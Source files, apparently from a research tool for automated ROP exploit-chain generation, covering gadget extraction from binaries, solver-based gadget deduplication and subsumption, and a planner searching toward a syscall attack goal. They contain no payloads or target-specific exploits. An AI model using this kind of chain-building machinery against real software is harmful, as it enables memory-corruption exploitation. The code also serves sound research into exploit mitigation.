(* Same observable effects (post, jump, writes); pre-conditions may differ. *)
let same_effects (g1 : Gadget.t) (g2 : Gadget.t) =
  let jump_eq =
    match g1.Gadget.jmp, g2.Gadget.jmp with
    | Gp_symx.Exec.Jret a, Gp_symx.Exec.Jret b
    | Gp_symx.Exec.Jind a, Gp_symx.Exec.Jind b -> Solver.prove_equal a b
    | Gp_symx.Exec.Jfall _, Gp_symx.Exec.Jfall _ -> true
    | _ -> false
  in
  jump_eq
  && List.for_all2
       (fun (_, t1) (_, t2) -> Solver.prove_equal t1 t2)
       g1.Gadget.post g2.Gadget.post
  && List.length g1.Gadget.stack_writes = List.length g2.Gadget.stack_writes
  && List.for_all2
       (fun (o1, t1) (o2, t2) -> o1 = o2 && Solver.prove_equal t1 t2)
       g1.Gadget.stack_writes g2.Gadget.stack_writes
  && List.length g1.Gadget.ptr_writes = List.length g2.Gadget.ptr_writes
  && (match g1.Gadget.syscall_state, g2.Gadget.syscall_state with
      | None, None -> true
      | Some s1, Some s2 ->
        List.for_all2 (fun (_, t1) (_, t2) -> Solver.prove_equal t1 t2) s1 s2
      | _ -> false)

(* Formula (1): (pre2 -> pre1) ∧ (post1 = post2). *)
let subsumes (g1 : Gadget.t) (g2 : Gadget.t) =
  same_effects g1 g2
  && List.for_all (fun f -> Solver.entails g2.Gadget.pre f) g1.Gadget.pre

type stats = {
  input : int;
  after_dedup : int;
  after_subsume : int;
  timed_out : bool;   (* budget ran dry; remaining gadgets passed through *)
}

(* Pairwise subsumption inside one (sorted, truncated) bucket, against
   the given budget.  Subsumption only ever SHRINKS the pool, so
   running out of budget — or a solver blow-up on one pair — is never
   fatal: the gadget is kept (conservative) and, once the budget has
   hit, the rest of the bucket passes through unexamined. *)
let probe_bucket ~budget bucket : Gadget.t list * bool =
  let survivors = ref [] in
  let timed_out = ref false in
  List.iter
    (fun g ->
      if !timed_out then survivors := !survivors @ [ g ]
      else
        match
          Budget.guard budget (fun () ->
              try not (List.exists (fun s -> subsumes s g) !survivors)
              with
              | Budget.Exhausted _ as e -> raise e
              | _ -> true)
        with
        | Ok keep -> if keep then survivors := !survivors @ [ g ]
        | Error _ ->
          timed_out := true;
          survivors := !survivors @ [ g ])
    bucket;
  (!survivors, !timed_out)

let minimize ?(max_bucket = 64) ?(budget = Budget.unlimited ()) ?(jobs = 1)
    (gadgets : Gadget.t list) : Gadget.t list * stats =
  let input = List.length gadgets in
  (* pass 1: exact semantic duplicates *)
  let seen = Hashtbl.create 1024 in
  let dedup =
    List.filter
      (fun g ->
        let key = semantic_key g in
        if Hashtbl.mem seen key then false
        else begin
          Hashtbl.add seen key ();
          true
        end)
      gadgets
  in
  let after_dedup = List.length dedup in
  (* pass 2: bucketed pairwise subsumption *)
  let buckets = Hashtbl.create 64 in
  List.iter
    (fun g ->
      let s = signature g in
      let cur = try Hashtbl.find buckets s with Not_found -> [] in
      Hashtbl.replace buckets s (g :: cur))
    dedup;
  (* Materialize buckets in table-traversal order ([Hashtbl.fold] and
     [Hashtbl.iter] walk the same way), sorted and truncated up front —
     preferring shorter gadgets as survivors — so the sequential and
     parallel paths see byte-identical work lists. *)
  let bucket_list =
    List.rev
      (Hashtbl.fold
         (fun _ bucket acc ->
           let bucket =
             List.sort (fun a b -> compare a.Gadget.len b.Gadget.len) bucket
           in
           let bucket =
             if List.length bucket > max_bucket then
               List.filteri (fun i _ -> i < max_bucket) bucket
             else bucket
           in
           bucket :: acc)
         buckets [])
  in
  let probed =
    if jobs <= 1 then begin
      (* once the shared budget dies, every later bucket passes through
         unexamined — the sticky flag mirrors the seed behavior *)
      let timed_out = ref false in
      List.map
        (fun bucket ->
          if !timed_out then (bucket, true)
          else begin
            let surv, t = probe_bucket ~budget bucket in
            if t then timed_out := true;
            (surv, t)
          end)
        bucket_list
    end
    else
      (* bucket-parallel: each probe owns a budget slice (same deadline,
         private meter), so domains never share mutable budget state.
         Under an exhausted budget every bucket still passes through —
         the same conservative outcome as the sequential sticky flag. *)
      Gp_util.Par.map ~jobs ~chunk:1
        (fun bucket -> probe_bucket ~budget:(Budget.slice budget ()) bucket)
        bucket_list
  in
  (* merge in bucket order, reproducing the seed's accumulation order *)
  let kept =
    List.fold_left (fun acc (surv, _) -> surv @ acc) [] probed
  in
  let timed_out = List.exists snd probed in
  ( kept,
    { input; after_dedup; after_subsume = List.length kept; timed_out } )
