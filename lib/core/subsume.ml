(* Subsumption testing (paper §IV-C).

   g1 subsumes g2 when (pre2 -> pre1) ∧ (post1 = post2): g1 does the same
   thing under a pre-condition at least as weak, so g2 adds nothing and is
   dropped.  Checked with the solver per formula (1).  Two speedups:

   - an exact-duplicate pass first (unaligned sliding produces thousands
     of byte-identical summaries at different addresses — we canonicalize
     on semantics, keeping one address per class);
   - candidates are bucketed by a cheap signature (jump kind, stack delta,
     clobber set) so the quadratic comparison only runs inside buckets. *)

open Gp_smt

let jump_sig (g : Gadget.t) =
  match g.Gadget.jmp with
  | Gp_symx.Exec.Jret _ -> 0
  | Gp_symx.Exec.Jind _ -> 1
  | Gp_symx.Exec.Jfall _ -> 2

let signature (g : Gadget.t) =
  ( jump_sig g,
    g.Gadget.stack_delta,
    List.map Gp_x86.Reg.number g.Gadget.clobbered,
    List.length g.Gadget.pre,
    g.Gadget.syscall_state <> None )

(* Canonical semantic identity: the full post state, the jump term,
   stack/pointer writes, and pre-conditions.  Terms are canonicalized by
   construction, so structural equality over these components IS
   semantic-class equality.  Dedup used to build a giant printable key
   per gadget; on large obfuscated cells the string build dominated the
   pass, so identity is now a structural FNV-64 hash with a structural
   compare on collision.  [Jfall] targets are deliberately ignored, as
   the printable key did (every syscall summary fell into one "sys"
   class regardless of fall-through address). *)

let h_word = Gp_util.Store.fnv64_i64
let h_str = Gp_util.Store.fnv64

let rec term_hash h (t : Term.t) =
  match t with
  | Term.Var v -> h_str ~h:(h_word ~h 1L) v
  | Term.Const c -> h_word ~h:(h_word ~h 2L) c
  | Term.Add (a, b) -> term_hash2 (h_word ~h 3L) a b
  | Term.Sub (a, b) -> term_hash2 (h_word ~h 4L) a b
  | Term.Mul (a, b) -> term_hash2 (h_word ~h 5L) a b
  | Term.Neg a -> term_hash (h_word ~h 6L) a
  | Term.Not a -> term_hash (h_word ~h 7L) a
  | Term.And (a, b) -> term_hash2 (h_word ~h 8L) a b
  | Term.Or (a, b) -> term_hash2 (h_word ~h 9L) a b
  | Term.Xor (a, b) -> term_hash2 (h_word ~h 10L) a b
  | Term.Shl (a, b) -> term_hash2 (h_word ~h 11L) a b
  | Term.Shr (a, b) -> term_hash2 (h_word ~h 12L) a b
  | Term.Sar (a, b) -> term_hash2 (h_word ~h 13L) a b

and term_hash2 h a b = term_hash (term_hash h a) b

let formula_hash h (f : Formula.t) =
  match f with
  | Formula.True -> h_word ~h 1L
  | Formula.False -> h_word ~h 2L
  | Formula.Eq (a, b) -> term_hash2 (h_word ~h 3L) a b
  | Formula.Ne (a, b) -> term_hash2 (h_word ~h 4L) a b
  | Formula.Slt (a, b) -> term_hash2 (h_word ~h 5L) a b
  | Formula.Sle (a, b) -> term_hash2 (h_word ~h 6L) a b
  | Formula.Ult (a, b) -> term_hash2 (h_word ~h 7L) a b
  | Formula.Ule (a, b) -> term_hash2 (h_word ~h 8L) a b
  | Formula.Readable a -> term_hash (h_word ~h 9L) a
  | Formula.Writable a -> term_hash (h_word ~h 10L) a

(* Each list is length-prefixed into the chain so component boundaries
   can't alias across fields. *)
let hash_list fold h xs =
  List.fold_left fold (h_word ~h (Int64.of_int (List.length xs))) xs

let semantic_hash (g : Gadget.t) : int64 =
  let h =
    hash_list
      (fun h (r, t) ->
        term_hash (h_word ~h (Int64.of_int (Gp_x86.Reg.number r))) t)
      0xcbf29ce484222325L g.Gadget.post
  in
  let h =
    match g.Gadget.jmp with
    | Gp_symx.Exec.Jret t -> term_hash (h_word ~h 0x10L) t
    | Gp_symx.Exec.Jind t -> term_hash (h_word ~h 0x11L) t
    | Gp_symx.Exec.Jfall _ -> h_word ~h 0x12L
  in
  let h =
    hash_list
      (fun h (o, t) -> term_hash (h_word ~h (Int64.of_int o)) t)
      h g.Gadget.stack_writes
  in
  let h =
    hash_list (fun h (a, v) -> term_hash (term_hash h a) v) h
      g.Gadget.ptr_writes
  in
  hash_list formula_hash h g.Gadget.pre

let semantic_equal (g1 : Gadget.t) (g2 : Gadget.t) =
  (match g1.Gadget.jmp, g2.Gadget.jmp with
   | Gp_symx.Exec.Jret a, Gp_symx.Exec.Jret b
   | Gp_symx.Exec.Jind a, Gp_symx.Exec.Jind b -> a = b
   | Gp_symx.Exec.Jfall _, Gp_symx.Exec.Jfall _ -> true
   | _ -> false)
  && g1.Gadget.post = g2.Gadget.post
  && g1.Gadget.stack_writes = g2.Gadget.stack_writes
  && g1.Gadget.ptr_writes = g2.Gadget.ptr_writes
  && g1.Gadget.pre = g2.Gadget.pre

(* Same observable effects (post, jump, writes); pre-conditions may differ. *)
let same_effects (g1 : Gadget.t) (g2 : Gadget.t) =
  let jump_eq =
    match g1.Gadget.jmp, g2.Gadget.jmp with
    | Gp_symx.Exec.Jret a, Gp_symx.Exec.Jret b
    | Gp_symx.Exec.Jind a, Gp_symx.Exec.Jind b -> Solver.prove_equal a b
    | Gp_symx.Exec.Jfall _, Gp_symx.Exec.Jfall _ -> true
    | _ -> false
  in
  jump_eq
  && List.for_all2
       (fun (_, t1) (_, t2) -> Solver.prove_equal t1 t2)
       g1.Gadget.post g2.Gadget.post
  && List.length g1.Gadget.stack_writes = List.length g2.Gadget.stack_writes
  && List.for_all2
       (fun (o1, t1) (o2, t2) -> o1 = o2 && Solver.prove_equal t1 t2)
       g1.Gadget.stack_writes g2.Gadget.stack_writes
  && List.length g1.Gadget.ptr_writes = List.length g2.Gadget.ptr_writes
  && (match g1.Gadget.syscall_state, g2.Gadget.syscall_state with
      | None, None -> true
      | Some s1, Some s2 ->
        List.for_all2 (fun (_, t1) (_, t2) -> Solver.prove_equal t1 t2) s1 s2
      | _ -> false)

(* Formula (1): (pre2 -> pre1) ∧ (post1 = post2). *)
let subsumes (g1 : Gadget.t) (g2 : Gadget.t) =
  same_effects g1 g2
  && List.for_all (fun f -> Solver.entails g2.Gadget.pre f) g1.Gadget.pre

type stats = {
  input : int;
  after_dedup : int;
  after_subsume : int;
  timed_out : bool;   (* budget ran dry; remaining gadgets passed through *)
}

(* Pairwise subsumption inside one (sorted, truncated) bucket, against
   the given budget.  Subsumption only ever SHRINKS the pool, so
   running out of budget — or a solver blow-up on one pair — is never
   fatal: the gadget is kept (conservative) and, once the budget has
   hit, the rest of the bucket passes through unexamined. *)
(* Survivors accumulate in a flat array (arrival order) instead of the
   seed's [!survivors @ [g]] per element, which was O(n²) per bucket.
   The array keeps the probe order identical — earlier survivors are
   still tried first, so solver traffic and budget consumption match
   the seed element for element.

   Fingerprint partitioning (DESIGN.md §17): with [Fpeval] on, each
   pair (survivor, candidate) is first checked against the two
   per-gadget fingerprints — computed once per gadget via the
   content-addressed [Incr.fp_of] — and a mismatch skips the
   [subsumes] probe entirely.  Soundness:

   - [fp_eq] mismatch: the effect structure differs, or some
     [same_effects]-probed term pair differs under the all-zeros or
     all-ones valuation — the real prover's two DETERMINISTIC trials —
     so [same_effects] answers false with screening on or off.
   - precondition mask: a lane satisfying the candidate's [pre] but
     not the survivor's is a genuine model of [pre2 ∧ ¬f] for the
     survivor's failing formula f, so [entails pre2 f] answers false
     on that lane with screening on, and the fall-through check can at
     most answer Sat/Unknown (both "not entailed") with it off.

   Either way the skipped probe's verdict is the one [subsumes] would
   have produced, so survivor sets are bit-identical — only solver
   traffic changes. *)
let probe_bucket ~budget bucket : Gadget.t list * bool =
  match bucket with
  | [] -> ([], false)
  | first :: _ ->
    let n = List.length bucket in
    let arr = Array.make n first in
    let use_fp = Fpeval.enabled () in
    let no_fp = { Gadget.fp_eq = ""; fp_pre = 0 } in
    let fpa = if use_fp then Array.make n no_fp else [||] in
    let count = ref 0 in
    let keep fp g =
      arr.(!count) <- g;
      if use_fp then fpa.(!count) <- fp;
      incr count
    in
    let probed_subsumes fp g =
      let rec go i =
        i < !count
        && ((if
               use_fp
               && (let fi = fpa.(i) in
                   fi.Gadget.fp_eq <> fp.Gadget.fp_eq
                   || fp.Gadget.fp_pre land lnot fi.Gadget.fp_pre <> 0)
             then begin
               Fpeval.note_refuted ();
               false
             end
             else subsumes arr.(i) g)
           || go (i + 1))
      in
      go 0
    in
    let timed_out = ref false in
    List.iter
      (fun g ->
        if !timed_out then keep no_fp g
        else begin
          let fp = if use_fp then Incr.fp_of g else no_fp in
          match
            Budget.guard budget (fun () ->
                try not (probed_subsumes fp g)
                with
                | Budget.Exhausted _ as e -> raise e
                | _ -> true)
          with
          | Ok k -> if k then keep fp g
          | Error _ ->
            timed_out := true;
            keep fp g
        end)
      bucket;
    (Array.to_list (Array.sub arr 0 !count), !timed_out)

let minimize ?(max_bucket = 64) ?(budget = Budget.unlimited ()) ?(jobs = 1)
    (gadgets : Gadget.t list) : Gadget.t list * stats =
  let input = List.length gadgets in
  (* pass 1: exact semantic duplicates (hash buckets, structural
     compare on collision) *)
  let seen : (int64, Gadget.t list) Hashtbl.t = Hashtbl.create 1024 in
  let dedup =
    List.filter
      (fun g ->
        let h = semantic_hash g in
        let bucket = Option.value (Hashtbl.find_opt seen h) ~default:[] in
        if List.exists (fun g' -> semantic_equal g' g) bucket then false
        else begin
          Hashtbl.replace seen h (g :: bucket);
          true
        end)
      gadgets
  in
  let after_dedup = List.length dedup in
  (* pass 2: bucketed pairwise subsumption *)
  let buckets = Hashtbl.create 64 in
  List.iter
    (fun g ->
      let s = signature g in
      let cur = try Hashtbl.find buckets s with Not_found -> [] in
      Hashtbl.replace buckets s (g :: cur))
    dedup;
  (* Materialize buckets in table-traversal order ([Hashtbl.fold] and
     [Hashtbl.iter] walk the same way), sorted and truncated up front —
     preferring shorter gadgets as survivors — so the sequential and
     parallel paths see byte-identical work lists. *)
  let bucket_list =
    List.rev
      (Hashtbl.fold
         (fun _ bucket acc ->
           let bucket =
             List.sort (fun a b -> compare a.Gadget.len b.Gadget.len) bucket
           in
           let bucket =
             if List.length bucket > max_bucket then
               List.filteri (fun i _ -> i < max_bucket) bucket
             else bucket
           in
           bucket :: acc)
         buckets [])
  in
  let probed =
    if jobs <= 1 then begin
      (* once the shared budget dies, every later bucket passes through
         unexamined — the sticky flag mirrors the seed behavior *)
      let timed_out = ref false in
      List.map
        (fun bucket ->
          if !timed_out then (bucket, true)
          else begin
            let surv, t = probe_bucket ~budget bucket in
            if t then timed_out := true;
            (surv, t)
          end)
        bucket_list
    end
    else
      (* bucket-parallel: each probe owns a budget slice (same deadline,
         private meter), so domains never share mutable budget state.
         Under an exhausted budget every bucket still passes through —
         the same conservative outcome as the sequential sticky flag. *)
      Gp_util.Par.map ~jobs ~chunk:1
        (fun bucket -> probe_bucket ~budget:(Budget.slice budget ()) bucket)
        bucket_list
  in
  (* merge in bucket order, reproducing the seed's accumulation order *)
  let kept =
    List.fold_left (fun acc (surv, _) -> surv @ acc) [] probed
  in
  let timed_out = List.exists snd probed in
  ( kept,
    { input; after_dedup; after_subsume = List.length kept; timed_out } )
