(** The partial-order planner (paper §IV-D, Algorithm 1).

    Greedy best-first search, backward from the attack goal: root plans
    each contain one GOAL step (an instantiated syscall gadget whose
    demands encode the target register state).  Each expansion closes an
    open pre-condition either by REUSING an existing step's effect or by
    INSTANTIATING a new gadget from the register-indexed pool; threatened
    causal links are protected by promotion/demotion.

    Heuristics (the paper's, in priority order): fewest open
    pre-conditions, fewest accumulated constraints, fewest steps — plus a
    diversity pressure that penalizes gadgets already appearing in
    emitted chains (with lazy queue rescoring), so the search keeps
    producing DIFFERENT chains rather than permutations of the first. *)

type config = {
  max_plans : int;            (** accepted complete plans to emit *)
  node_budget : int;          (** expansions before giving up *)
  time_budget : float;        (** seconds before giving up *)
  branch_cap : int;           (** candidate steps tried per open cond *)
  goal_cap : int;             (** syscall gadgets tried as roots *)
  max_steps : int;            (** plan size cap *)
}

val default_config : config

type memo = (int * Plan.cond, Plan.step option) Hashtbl.t
(** Instantiation is plan-independent (only the step id differs), so each
    (gadget, condition) pair is solved at most once per search. *)

val instantiate_memo :
  memo -> Gadget.t -> Plan.cond -> sid:Plan.step_id -> Plan.step option

val candidate_steps :
  memo -> Pool.t -> Plan.t -> Plan.cond -> cap:int -> Plan.step list
(** Algorithm 1's PickIfSatisfy: instantiate candidates, rank by (new
    demands, pre-conditions, length), and reserve part of the cut for
    conditional/merged/indirect/pivot gadgets so the planner's
    distinguishing gadget classes actually get exercised. *)

type result = {
  plans : Plan.t list;     (** accepted complete plans *)
  expanded : int;          (** nodes expanded (visited-distinct pops) *)
  peak_queue : int;        (** high-water mark of the priority queue *)
  inst_memo_hits : int;    (** instantiation-memo hits *)
  cand_memo_hits : int;    (** ranked-candidate-memo hits *)
  discarded : int;         (** complete plans rejected by [accept] *)
  exhausted : bool;        (** the whole space was searched *)
  budget_hit : bool;       (** stopped on deadline/fuel, not space *)
}

val search :
  ?config:config ->
  ?accept:(Plan.t -> bool) ->
  ?budget:Budget.t ->
  Pool.t ->
  Goal.concrete ->
  result
(** Run the search.  [accept] gates completed plans: a complete plan that
    fails it (payload unbuildable, duplicate chain, failed validation) is
    discarded WITHOUT consuming the plan quota and the search continues —
    the paper's "does not stop when finding one gadget chain".

    The config's [time_budget]/[node_budget] become an internal
    {!Budget.t}; passing [budget] additionally clamps the deadline to the
    parent's, so a pipeline-level budget bounds the search no matter what
    the config says. *)

val search_par :
  ?config:config ->
  ?accept_for:(int -> Plan.t -> bool) ->
  ?budget:Budget.t ->
  ?jobs:int ->
  Pool.t ->
  Goal.concrete ->
  result
(** Goal-portfolio search: one independent best-first search per root
    syscall gadget, fanned over [jobs] domains.  Each worker owns its
    queue, memos, usage and visited tables, and a {!Budget.slice} fuel
    prefix ([node_budget / #roots], remainder to the earliest roots)
    sharing the parent deadline; results merge in root order — a pure
    function of (pool, goal, config), independent of the job count.

    [accept_for i] builds the accept gate for root [i], letting the
    caller validate payloads inside each worker with domain-private
    state.  The quota [max_plans] applies PER ROOT here; callers dedupe
    cross-root chains and re-apply the global quota after the merge
    (see {!Api}).  Stats merge associatively ([peak_queue] by max, the
    rest by sum), so they too are job-count-independent. *)
