(* Gadget extraction (paper §IV-B).

   Two modes:

   - [raw_scan]: the cheap syntactic census every tool starts from — slide
     a decoder over every byte offset (catching unaligned instruction
     streams), follow direct jumps and conditional falls, classify the
     resulting run.  This is what Fig. 1 / Table I count.

   - [harvest]: the full pipeline — prefilter byte offsets syntactically,
     then symbolically execute each surviving start (forking at
     conditional jumps, merging through direct jumps) and build gadget
     records for the planner. *)

open Gp_x86

type config = {
  unaligned : bool;           (* start at every byte, not just insn starts *)
  max_insns : int;
  max_forks : int;
  max_merges : int;
  max_gadget_bytes : int;     (* ignore starts whose first insn run is huge *)
}

let default_config =
  (* max_insns must span the distance from a comparison to the following
     epilogue in unoptimized code, or conditional gadgets never complete *)
  { unaligned = true; max_insns = 30; max_forks = 2; max_merges = 2;
    max_gadget_bytes = 96 }

(* ----- syntactic census ----- *)

type raw = {
  raw_addr : int64;
  raw_insns : Insn.t list;
  raw_kind : Gadget.kind;
}

(* Follow a run until a control transfer.  With [merge] (the harvest
   prefilter), direct jumps/calls are followed like the symbolic stage
   will; without it (the census behind Fig. 1 / Table I), a direct
   transfer ENDS the gadget, matching the paper's taxonomy: UDJ/CDJ end
   with a direct jump, UIJ/CIJ with an indirect one, conditional kinds
   contain a jcc on the way. *)
let scan_run ?(merge = true) ?decode ~config (image : Gp_util.Image.t) pos =
  let code = image.Gp_util.Image.code in
  let limit = Bytes.length code in
  let decode =
    match decode with Some f -> f | None -> fun p -> Decode.decode code p
  in
  let rec go acc pos n merges has_cond =
    if n > config.max_insns || pos < 0 || pos >= limit then None
    else
      match decode pos with
      | None -> None
      | Some (insn, len) -> (
        let acc = insn :: acc in
        let next = pos + len in
        match insn with
        | Insn.Ret | Insn.RetImm _ ->
          Some (List.rev acc, (if has_cond then Gadget.CDJ else Gadget.Return))
        | Insn.JmpReg _ | Insn.JmpMem _ | Insn.CallReg _ | Insn.CallMem _ ->
          Some (List.rev acc, (if has_cond then Gadget.CIJ else Gadget.UIJ))
        | Insn.Syscall -> Some (List.rev acc, Gadget.Sys)
        | Insn.Jmp rel | Insn.Call rel ->
          if merge && merges < config.max_merges then
            go acc (next + rel) (n + 1) (merges + 1) has_cond
          else if n > 0 then
            (* a bare jmp with no useful body is not a gadget *)
            Some (List.rev acc, (if has_cond then Gadget.CDJ else Gadget.UDJ))
          else None
        | Insn.Jcc (_, _) ->
          (* fall through, remembering the conditional *)
          go acc next (n + 1) merges true
        | Insn.Int3 | Insn.Hlt -> None
        | _ -> go acc next (n + 1) merges has_cond)
  in
  go [] pos 0 0 false

let start_positions ?decode ~config (image : Gp_util.Image.t) =
  let n = Gp_util.Image.code_size image in
  let decode =
    match decode with
    | Some f -> f
    | None -> fun p -> Decode.decode image.Gp_util.Image.code p
  in
  if config.unaligned then List.init n Fun.id
  else begin
    (* aligned mode: decode forward from 0, collecting boundaries *)
    let rec walk pos acc =
      if pos >= n then List.rev acc
      else
        match decode pos with
        | Some (_, len) -> walk (pos + len) (pos :: acc)
        | None -> walk (pos + 1) acc
    in
    walk 0 []
  end

let raw_scan ?(config = { default_config with max_insns = 24 })
    (image : Gp_util.Image.t) : raw list =
  let base = image.Gp_util.Image.code_base in
  (* decode-once: every position is decoded a single time up front and
     the census's overlapping runs share the results *)
  let memo = Decode.memo image.Gp_util.Image.code in
  let decode = Decode.decode_memo memo in
  List.filter_map
    (fun pos ->
      match scan_run ~merge:false ~decode ~config image pos with
      | Some (insns, kind) ->
        Some
          { raw_addr = Int64.add base (Int64.of_int pos);
            raw_insns = insns;
            raw_kind = kind }
      | None -> None)
    (start_positions ~decode ~config image)

let raw_counts ?config image =
  let raws = raw_scan ?config image in
  let slot = function
    | Gadget.Return -> 0
    | Gadget.UDJ -> 1
    | Gadget.UIJ -> 2
    | Gadget.CDJ -> 3
    | Gadget.CIJ -> 4
    | Gadget.Sys -> 5
  in
  let counts = Array.make 6 0 in
  List.iter (fun r -> counts.(slot r.raw_kind) <- counts.(slot r.raw_kind) + 1) raws;
  [ (Gadget.Return, counts.(0));
    (Gadget.UDJ, counts.(1));
    (Gadget.UIJ, counts.(2));
    (Gadget.CDJ, counts.(3));
    (Gadget.CIJ, counts.(4));
    (Gadget.Sys, counts.(5)) ]

(* ----- symbolic harvest ----- *)

(* A gadget is usable by the planner only if its stack behaviour is
   understood. *)
let usable (g : Gadget.t) =
  match g.Gadget.stack_delta with
  | Gadget.Sunknown -> (
    match g.Gadget.jmp with
    | Gp_symx.Exec.Jfall _ -> true   (* terminal syscall gadgets need no delta *)
    | _ -> false)
  | Gadget.Spivot d -> d >= -64 && d <= 512   (* leave-style frame pivots *)
  | Gadget.Sdelta d -> (
    match g.Gadget.jmp with
    | Gp_symx.Exec.Jret _ -> d >= 8 && d <= 512
    | Gp_symx.Exec.Jind _ -> d >= -16 && d <= 512
    | Gp_symx.Exec.Jfall _ -> true)

(* Fault-injection hook: starts for which the predicate answers true are
   treated as undecodable windows and quarantined (see
   Gp_harness.Faultsim).  Defaults to never firing. *)
let chaos_decode : (int64 -> bool) ref = ref (fun _ -> false)

type harvest_stats = {
  h_starts : int;                       (* start offsets examined *)
  h_quarantined : (string * int) list;  (* Fail.label -> count *)
  h_budget_hit : bool;                  (* harvest stopped early *)
  h_summary_hits : int;                 (* starts served from the content store *)
  h_summary_misses : int;               (* starts symbolically executed *)
  h_suffix_hits : int;                  (* suffix queries answered from memo/store *)
  h_suffix_misses : int;                (* suffix entries computed fresh *)
  h_substitutions : int;                (* suffixes built by Exec.extend *)
  h_decode_saved : int;                 (* decodes the decode-once memo absorbed *)
}

(* Per-chunk summary-store counters.  Each worker owns one and the merge
   sums them in chunk index order — deterministic aggregation whatever
   the domain schedule (the VALUES can still differ with cache
   temperature, e.g. two domains racing to a double miss, which is why
   hit/miss counts are excluded from differential fingerprints, same as
   the solver-cache counters). *)
type sctr = { mutable sc_hits : int; mutable sc_misses : int }

let sym_config_of config =
  { Gp_symx.Exec.max_insns = config.max_insns;
    max_forks = config.max_forks;
    max_merges = config.max_merges }

(* Bridge the compositional summarizer to the persistent suffix store
   (DESIGN.md §16).  Shared across a harvest's workers — Incr's suffix
   table is sharded and first-write-wins, and every stored entry is
   exact, so racing domains at worst duplicate a compute.  A payload
   that fails to decode (schema skew the store's checksums missed)
   degrades to a miss. *)
let suffix_hooks ~decode (image : Gp_util.Image.t) =
  if not (Incr.enabled () && Gp_symx.Exec.compose_enabled ()) then (None, None)
  else begin
    let code_size = Gp_util.Image.code_size image in
    let base = image.Gp_util.Image.code_base in
    let store_find ~pos ~cap =
      let key = Gadget.suffix_key ~cap ~decode ~code_size ~pos in
      match Incr.find_suffix key with
      | None -> None
      | Some payload -> (
        let addr = Int64.add base (Int64.of_int pos) in
        match Gp_symx.Exec.read_suffix ~addr payload with
        | e -> Some e
        | exception _ -> None)
    in
    let store_add ~pos ~cap (e : Gp_symx.Exec.suffix) =
      (* a trivial entry (no summaries, no refusal) costs more to key
         and serialize than to recompute — most junk-byte positions
         produce one, so skipping them keeps the store write traffic
         proportional to actual content *)
      if e.Gp_symx.Exec.x_res <> [] || e.Gp_symx.Exec.x_refused <> None then
        let key = Gadget.suffix_key ~cap ~decode ~code_size ~pos in
        Incr.add_suffix key (Gp_symx.Exec.write_suffix e)
    in
    (* with an empty suffix section every lookup misses by definition;
       skip the per-position key hashing until something is stored
       (entries added by this very harvest are shared through the
       chunk memo, not re-read from the store) *)
    let find = if Incr.suffix_size () > 0 then Some store_find else None in
    (find, Some store_add)
  end

(* Examine one start offset: syntactic prefilter, chaos check, symbolic
   summarization, conversion.  [mk] builds each gadget record — the
   sequential path draws fresh global ids in place; parallel workers
   pass a placeholder id and the merge renumbers.  Returns one entry
   per CONVERTED summary: [Some g] when usable, [None] when converted
   but unusable.  The distinction matters because every conversion
   consumes a gadget id, so renumbering must see both. *)
let examine_start ~config ~sym_config ~decode ~sctr ~smemo ~sfind ~sadd ~mk
    ~tally (image : Gp_util.Image.t) pos : Gadget.t option list =
  (* cheap prefilter: must syntactically reach a terminator *)
  match scan_run ~decode ~config image pos with
  | None -> []
  | Some _ ->
    let addr =
      Int64.add image.Gp_util.Image.code_base (Int64.of_int pos)
    in
    if !chaos_decode addr then begin
      Fail.tally_add tally (Fail.Decode_fault (addr, "injected"));
      []
    end
    else begin
      let summarize () =
        (* Compositional summarization (DESIGN.md §16): bit-identical to
           summarize_r, sharing suffixes through the chunk memo and the
           persistent suffix store.  With composition off (the
           --no-compose ablation) this IS summarize_r. *)
        Gp_symx.Exec.summarize_cr ~config:sym_config ~decode ~memo:smemo
          ?store_find:sfind ?store_add:sadd image addr
      in
      let summaries, refused =
        (* Content-addressed store consult (DESIGN.md §11): the injected
           chaos check stays BEFORE the lookup, so a quarantined start
           never reads or seeds the store — mirroring the solver memo's
           injection discipline. *)
        if not (Incr.enabled ()) then summarize ()
        else begin
          let key =
            Gadget.content_key ~config:sym_config ~decode
              ~code_size:(Gp_util.Image.code_size image) ~pos
          in
          match Incr.find key with
          | Some (ss, refused) ->
            sctr.sc_hits <- sctr.sc_hits + 1;
            (List.map (Gp_symx.Exec.rebase ~addr) ss, refused)
          | None ->
            sctr.sc_misses <- sctr.sc_misses + 1;
            let v = summarize () in
            Incr.add key v;
            v
        end
      in
      (match refused with
       | Some why -> Fail.tally_add tally (Fail.Symx_unsupported (addr, why))
       | None -> ());
      List.filter_map
        (fun s ->
          match mk s with
          | g -> Some (if usable g then Some g else None)
          | exception e ->
            Fail.tally_add tally
              (Fail.Decode_fault (addr, Printexc.to_string e));
            None)
        summaries
    end

(* Parallel harvest: chunk the start offsets over [jobs] domains.  Each
   chunk owns a budget slice and a fault tally; the merge walks chunks
   in index order, so gadget order — and, after renumbering, the gadget
   id sequence — is identical to the sequential path.  Fuel is
   checkpointed per chunk: a global allowance of F start offsets covers
   positions [0, F) exactly as the sequential meter would, so each
   chunk's share is its overlap with that prefix. *)
let harvest_par ~jobs ~config ~budget ~ids (image : Gp_util.Image.t) :
    Gadget.t list * harvest_stats =
  let sym_config = sym_config_of config in
  (* decode-once memo: built eagerly on the main domain, immutable
     thereafter, so every worker reads it lock-free *)
  let memo = Decode.memo image.Gp_util.Image.code in
  let decode = Decode.decode_memo memo in
  let positions = Array.of_list (start_positions ~decode ~config image) in
  let n = Array.length positions in
  let fuel0 = Budget.remaining_fuel budget in
  let chunk = Gp_util.Par.chunk_size ~min_chunk:64 ~jobs n in
  let sfind, sadd = suffix_hooks ~decode image in
  let tasks =
    Array.map
      (fun (lo, hi) ->
        fun () ->
          let tally = Fail.tally_create () in
          let sctr = { sc_hits = 0; sc_misses = 0 } in
          (* one suffix memo per chunk: workers never share it, so the
             compositional layer needs no locking *)
          let smemo = Gp_symx.Exec.memo_create () in
          let allot =
            if fuel0 = max_int then hi - lo else max 0 (min hi fuel0 - lo)
          in
          let b = Budget.slice budget ~fuel:allot () in
          let out = ref [] in
          let examined = ref 0 in
          let hit =
            try
              for k = lo to hi - 1 do
                Budget.check b;
                Budget.spend b;
                incr examined;
                out :=
                  examine_start ~config ~sym_config ~decode ~sctr ~smemo
                    ~sfind ~sadd ~mk:(Gadget.of_summary ~id:(-1)) ~tally image
                    positions.(k)
                  :: !out
              done;
              allot < hi - lo
            with Budget.Exhausted _ -> true
          in
          (List.concat (List.rev !out), tally, !examined, hit, sctr, smemo))
      (Gp_util.Par.ranges ~chunk n)
  in
